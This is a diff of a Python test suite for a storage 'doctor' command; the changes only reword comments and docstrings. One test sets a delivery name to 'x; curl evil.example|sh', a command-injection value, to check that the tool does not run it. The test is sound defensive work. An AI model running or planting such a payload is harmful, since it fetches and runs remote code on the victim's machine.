@@ -28,7 +28,7 @@ def free_port():
 
 
 def doctor(store, *arguments, code=None, port=None):
-    """Its document; the text says the same, and both leave everything as it was."""
+    """Returns the doctor's document, and checks that the text says the same and that both leave everything as it was."""
     before = state(store)
     words = ["doctor", "--store", store, "--port", port or free_port(), *arguments]
     result = dailve(*words, "--json", check=False)
@@ -95,7 +95,7 @@ def test_a_store_that_is_missing_is_a_finding_and_is_not_made(tmp_path):
 
 @pytest.mark.parametrize("change, subject, words", [
     ("PRAGMA user_version = 1000", "store", "newer version"),
-    # One that made no table.
+    # Migration 24 made no table, so only its entry is missing.
     ("DELETE FROM grdb_migrations WHERE identifier LIKE '24 %'; PRAGMA user_version = 23", "schema", "this program writes"),
     ("PRAGMA application_id = 7", "store", "is not a store of dailve"),
 ], ids=["newer", "older", "foreign"])
@@ -130,7 +130,7 @@ sys.stdin.read()
 
 
 def test_a_store_that_another_program_has_for_itself_is_a_finding(store):
-    # In a process of its own: reading the file here would release its locks.
+    # Another process holds the file, because reading it in this one would release its locks.
     holder = subprocess.Popen(
         [sys.executable, "-c", HOLD, store / "health.sqlite"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
     try:
@@ -191,7 +191,7 @@ def test_a_delivery_that_could_not_be_read_is_named(store):
 
 
 def test_a_command_that_names_a_delivery_is_one_command(store):
-    """Its name came from another machine."""
+    """Another machine chose the name of the delivery, so it must not run commands of its own."""
     name = "x; curl evil.example|sh"
     with sqlite3.connect(store / "health.sqlite") as database:
         database.execute(
@@ -254,9 +254,9 @@ def test_ports(store, tmp_path):
     server = Server(store)
     try:
         assert "answers" in [f for f in doctor(store, port=server.port, code=0)["findings"] if f["subject"] == "port"][0]["text"]
-        # The same server at another address takes no deliveries alone.
+        # The server at an unexpected address counts as another program on the port.
         assert wrong(doctor(store, code=3), "port")
-        # At its own address it does.
+        # At the address where it listens for deliveries, it is well.
         assert not wrong(doctor(store, "--ingest-listen", f"127.0.0.1:{server.port}", port=server.port, code=0))
         shutil.copytree(store, tmp_path / "other", ignore=shutil.ignore_patterns("*-wal", "*-shm"))
         assert "another store" in wrong(doctor(tmp_path / "other", port=server.port, code=3), "port")[0]["text"]
